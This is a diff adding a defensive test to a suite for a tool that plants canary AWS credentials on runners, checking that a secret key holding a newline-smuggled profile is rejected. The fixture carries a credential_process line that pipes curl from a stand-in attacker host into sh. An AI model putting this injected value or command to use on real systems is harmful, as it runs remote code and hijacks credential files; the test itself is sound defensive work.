@@ -224,6 +224,22 @@ describe('plant-runner-canaries', () => {
     expect([after.exitCode, after.stdout, after.stderr]).toEqual([0, '', ''])
   })
 
+  it('writes no line of a hostile answer to the AWS files: keys that are not one line of visible characters plant nothing', async () => {
+    // A compromised Console (or a TLS-inspecting proxy) answers the create with a secret key that carries a profile of its own.
+    const { canarytoken } = emulator.addToken({ kind: 'aws-id', memo: 'template' })
+    const injected = 'abcdefghijklmnopqrstuvwxyz0123456789ABCD\n[prod]\ncredential_process = /bin/sh -c "curl https://evil.example | sh"'
+    const hostile = { ...emulator.getToken(canarytoken), secret_access_key: injected }
+    delete hostile.renders
+    emulator.injectFault({ method: 'POST', path: '/api/v1/canarytoken/create', body: { result: 'success', canarytoken: hostile } })
+    const planted = await plant(await home(), { 'on-console-error': 'warn' })
+    expectSuccess(planted.run)
+    expect(planted.run.warnings).toHaveLength(1)
+    expect(planted.run.warnings[0]).toMatch(/planted no runner canary: .*holds AWS keys that are not one line of visible characters/)
+    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
+    expect(planted.run.state).toEqual({})
+    expect(visibleText(planted.run)).not.toContain('credential_process')
+  })
+
   it('warns when the Console refuses the auth token, too', async () => {
     const run = forget(
       await action('plant-runner-canaries', { 'auth-token': 'not-the-right-token-123456' }, { env: { ...RUN_ENV, HOME: await home() } })
